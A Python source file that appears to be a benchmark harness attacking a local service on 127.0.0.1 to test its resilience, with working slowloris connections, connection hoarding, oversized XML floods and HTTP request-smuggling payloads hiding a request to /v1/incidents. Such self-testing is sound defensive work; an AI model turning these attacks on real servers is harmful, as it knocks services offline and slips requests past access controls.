"""The attackers: `python -m bench.attack.attackers NAME PORT SECONDS [REQUESTS_FILE]`.

A process of its own, gentle on the machine: what it costs the stack must come from the attack and
not from a core that is taken away. Prints what it did as one line of JSON.
"""

from __future__ import annotations

import asyncio
import json
import os
import resource
import struct
import sys
import time
from collections import Counter
from collections.abc import Awaitable, Callable, Iterator
from pathlib import Path
from typing import Final, cast

import uvloop

HOST: Final = "127.0.0.1"
ADDRESSES: Final = tuple(f"127.0.1.{number}" for number in range(1, 17))
"""Sixteen peers, all of them this machine."""
OPEN_PER_S: Final = 200
"""New connections a second."""
TRICKLE_S: Final = 2.0
LARGE_EVERY: Final = 50
NICER: Final = 10
HALF_HEAD: Final = b"POST /wechat/brand HTTP/1.1\r\nHost: x\r\nX-Slow: "
NO_BODY: Final = (
    b"POST /wechat/brand HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\n"
    b"Content-Length: 60000\r\n\r\n"
)
CHEAP: Final = b"GET /wechat/nobody HTTP/1.1\r\nHost: x\r\n\r\n"
UNSIGNED: Final = (
    b"POST /wechat/brand?signature=0&timestamp=1&nonce=1&encrypt_type=aes&msg_signature=0"
    b" HTTP/1.1\r\nHost: x\r\nContent-Type: text/xml\r\nContent-Length: %d\r\n\r\n"
)
HIDDEN: Final = b"GET /v1/incidents HTTP/1.1\r\nHost: x\r\n\r\n"
POST: Final = b"POST /wechat/brand HTTP/1.1\r\nHost: x\r\n"
WISH: Final = b"Connection: Upgrade\r\nUpgrade: websocket\r\n"
TRICKS: Final = (
    POST + WISH + b"Content-Length: 40\r\n\r\n",
    b"GET /livez HTTP/1.1\r\nHost: x\r\n" + WISH + b"\r\n",
    b"CONNECT /wechat/brand HTTP/1.1\r\nHost: x\r\n\r\n",
    POST + b"Transfer-Encoding: chunked\r\n\r\n0\r\nHost: y\r\n\r\n",
    POST + b"Host: y\r\n\r\n",
    POST + b"Expect: 100-continue\r\nContent-Length: 9\r\n\r\n",
    HIDDEN * 64,
)

Did = Counter[str]


async def slow_heads(port: int, did: Did) -> None:
    """Two thousand heads that never end, a byte now and then."""
    await _hoard(port, 2_000, HALF_HEAD, did, trickle=b"a")


async def slow_bodies(port: int, did: Did) -> None:
    """As many heads with bodies that never come."""
    await _hoard(port, 2_000, NO_BODY, did, trickle=b"<")


async def hoarding(port: int, did: Did) -> None:
    """More connections than the service has places: some never speak, some ask once and stay."""
    await asyncio.gather(
        _hoard(port, 1_500, b"", did, trickle=b""), _hoard(port, 1_500, CHEAP, did, trickle=b"")
    )


async def unsigned_flood(port: int, did: Did) -> None:
    """Small unsigned pushes, and now and then the largest body full of empty elements."""
    small = b"<xml><Encrypt><![CDATA[AAAA]]></Encrypt></xml>"
    large = b"<xml>" + b"<a/>" * 16_380 + b"</xml>"
    every = UNSIGNED % len(small) + small
    now_and_then = UNSIGNED % len(large) + large
    requests = ((now_and_then if number % LARGE_EVERY == 0 else every) for number in range(10**9))
    await _ask_on(port, requests, 250, did)


async def upgrade_tricks(port: int, did: Did) -> None:
    """Requests that hide others; each on a connection of its own."""
    number = 0
    while True:
        trick = TRICKS[number % len(TRICKS)]
        number += 1
        started = time.monotonic()
        try:
            async with asyncio.timeout(2):
                reader, writer = await asyncio.open_connection(
                    HOST, port, local_addr=(ADDRESSES[number % len(ADDRESSES)], 0)
                )
                writer.write(trick)
                await asyncio.sleep(0.005)
                writer.write(HIDDEN)
                heard = await reader.read(65_536)
                did["tricks"] += 1
                did["answers"] += heard.count(b"HTTP/1.1 ")
                writer.close()
        except (OSError, TimeoutError):
            did["ended"] += 1
        await asyncio.sleep(max(0.0, started + 1 / 100 - time.monotonic()))


async def signed_flood(port: int, did: Did, prepared: list[bytes]) -> None:
    """One fan who writes two hundred messages a second, each genuine."""
    await _ask_on(port, iter(prepared), 200, did)


async def _hoard(port: int, count: int, said: bytes, did: Did, *, trickle: bytes) -> None:
    """Keep so many connections; whoever is cut comes again."""
    loop = asyncio.get_running_loop()
    opened: set[_Hoarder] = set()
    while True:
        tick = time.monotonic()
        for _ in range(OPEN_PER_S // 10):
            if len(opened) >= count:
                break
            address = ADDRESSES[did["connections"] % len(ADDRESSES)]
            did["connections"] += 1
            try:
                await loop.create_connection(
                    lambda: _Hoarder(said, opened), HOST, port, local_addr=(address, 0)
                )
            except OSError:
                did["not_connected"] += 1
        if trickle:
            for hoarder in tuple(opened):
                hoarder.trickle(trickle, tick)
        did["most_open"] = max(did["most_open"], len(opened))
        await asyncio.sleep(max(0.0, tick + 0.1 - time.monotonic()))


class _Hoarder(asyncio.Protocol):
    def __init__(self, said: bytes, opened: set[_Hoarder]) -> None:
        self._said = said
        self._opened = opened
        self._trickled_at = time.monotonic()
        self._transport: asyncio.WriteTransport | None = None

    def connection_made(self, transport: asyncio.BaseTransport) -> None:
        self._transport = cast("asyncio.WriteTransport", transport)
        self._opened.add(self)
        if self._said:
            self._transport.write(self._said)

    def trickle(self, data: bytes, now: float) -> None:
        if self._transport is not None and now - self._trickled_at >= TRICKLE_S:
            self._trickled_at = now
            self._transport.write(data)

    def connection_lost(self, exc: Exception | None) -> None:
        self._opened.discard(self)


async def _ask_on(port: int, requests: Iterator[bytes], per_s: int, did: Did) -> None:
    """Ask over eight connections that stay open, at most so often in all."""

    async def ask(address: str) -> None:
        while True:
            try:
                reader, writer = await asyncio.open_connection(HOST, port, local_addr=(address, 0))
                while True:
                    began = time.monotonic()
                    request = next(requests, None)
                    if request is None:
                        return
                    writer.write(request)
                    head = await reader.readuntil(b"\r\n\r\n")
                    length = int(head.lower().partition(b"content-length:")[2].split(b"\r\n")[0])
                    await reader.readexactly(length)
                    did[f"answered_{head[9:12].decode()}"] += 1
                    await asyncio.sleep(max(0.0, began + 8 / per_s - time.monotonic()))
            except (OSError, asyncio.IncompleteReadError):
                did["ended"] += 1
                await asyncio.sleep(0.05)

    await asyncio.gather(*(ask(address) for address in ADDRESSES[:8]))


ATTACKS: Final[dict[str, Callable[[int, Did], Awaitable[None]]]] = {
    "slow_heads": slow_heads,
    "slow_bodies": slow_bodies,
    "unsigned_flood": unsigned_flood,
    "upgrade_tricks": upgrade_tricks,
    "connection_hoarding": hoarding,
}
SIGNED: Final = "signed_flood"


def prepared(path: Path) -> list[bytes]:
    """Whole requests, each behind its length (4 bytes)."""
    raw, at, found = path.read_bytes(), 0, []
    while at < len(raw):
        (length,) = struct.unpack_from(">I", raw, at)
        found.append(raw[at + 4 : at + 4 + length])
        at += 4 + length
    return found


async def main(name: str, port: int, seconds: float, path: Path | None) -> None:
    """Attack for so long, then print what was done."""
    did: Did = Counter()
    attack = signed_flood(port, did, prepared(path)) if path else ATTACKS[name](port, did)
    try:
        async with asyncio.timeout(seconds):
            await attack
    except TimeoutError:
        pass
    sys.stdout.write(json.dumps(did) + "\n")


if __name__ == "__main__":
    os.nice(NICER)
    hard = resource.getrlimit(resource.RLIMIT_NOFILE)[1]
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    file = Path(sys.argv[4]) if len(sys.argv) > 4 else None
    uvloop.run(main(sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), file))
